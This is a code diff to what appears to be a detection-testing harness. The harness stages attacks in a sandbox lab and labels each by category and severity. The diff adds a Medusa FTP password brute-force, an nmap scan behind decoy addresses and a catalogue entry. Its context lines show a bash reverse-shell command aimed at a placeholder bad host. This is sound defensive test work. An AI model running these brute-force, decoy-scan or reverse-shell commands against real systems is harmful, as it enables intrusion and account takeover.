@@ -276,6 +276,15 @@ def reverse_shell(lab: Lab) -> None:
     lab.on("desktop", "bash", "-c", f"bash -i >& /dev/tcp/{BAD}/4444 0>&1", timeout_s=4)
 
 
+def medusa(lab: Lab) -> None:
+    servers.ftp(lab, "nas")
+    words = lab.folder / "words"
+    words.write_text("\n".join(f"secret{n}" for n in range(60)) + "\n")
+    lab.on(
+        "guest", "medusa", "-h", address("nas"), "-u", "root", "-P", str(words), "-M", "ftp", "-t", "8", timeout_s=60
+    )
+
+
 def hydra_form(lab: Lab) -> None:
     servers.web(lab, "nas", 80)
     words = lab.folder / "words"
@@ -314,6 +323,8 @@ SCANS = (
     Attack("nmap -sT 1000 ports", "port_scan", HIGH, 15, ("nmap",), nmap("-sT", address("nas"))),
     Attack("nmap -sS -T2 slow", "port_scan", HIGH, 30, ("nmap",),
            nmap("-sS", "-T2", "--top-ports", "60", address("nas"), limit_s=40)),
+    Attack("nmap -sS behind decoys", "port_scan", HIGH, 15, ("nmap",),
+           nmap("-sS", "-D", "192.168.77.50,192.168.77.51,ME", "--top-ports", "300", address("nas"))),
     Attack("nmap -sS from outside", "port_scan", MEDIUM, 15, ("nmap",), nmap("-sS", address("nas"), host="net")),
     Attack("nmap -sS --top-ports 1000 outward", "port_scan", HIGH, 15, ("nmap",),
            nmap("-sS", "--top-ports", "1000", BAD)),
@@ -415,6 +426,7 @@ CLEAR = (
 )  # fmt: skip
 GUESSES = (
     Attack("hydra at SSH", "brute_force", HIGH, 60, ("hydra", "sshd"), guessed("ssh", 22, servers.ssh)),
+    Attack("medusa at FTP", "brute_force", HIGH, 60, ("medusa", "vsftpd"), medusa),
     Attack("hydra at FTP", "brute_force", HIGH, 60, ("hydra", "vsftpd"), guessed("ftp", 21, servers.ftp)),
     Attack("hydra at a web form", "brute_force", HIGH, 60, ("hydra",), hydra_form),
     Attack("hydra at Telnet", "brute_force", HIGH, 200, ("hydra", "telnetd"), guessed("telnet", 23, servers.telnet)),
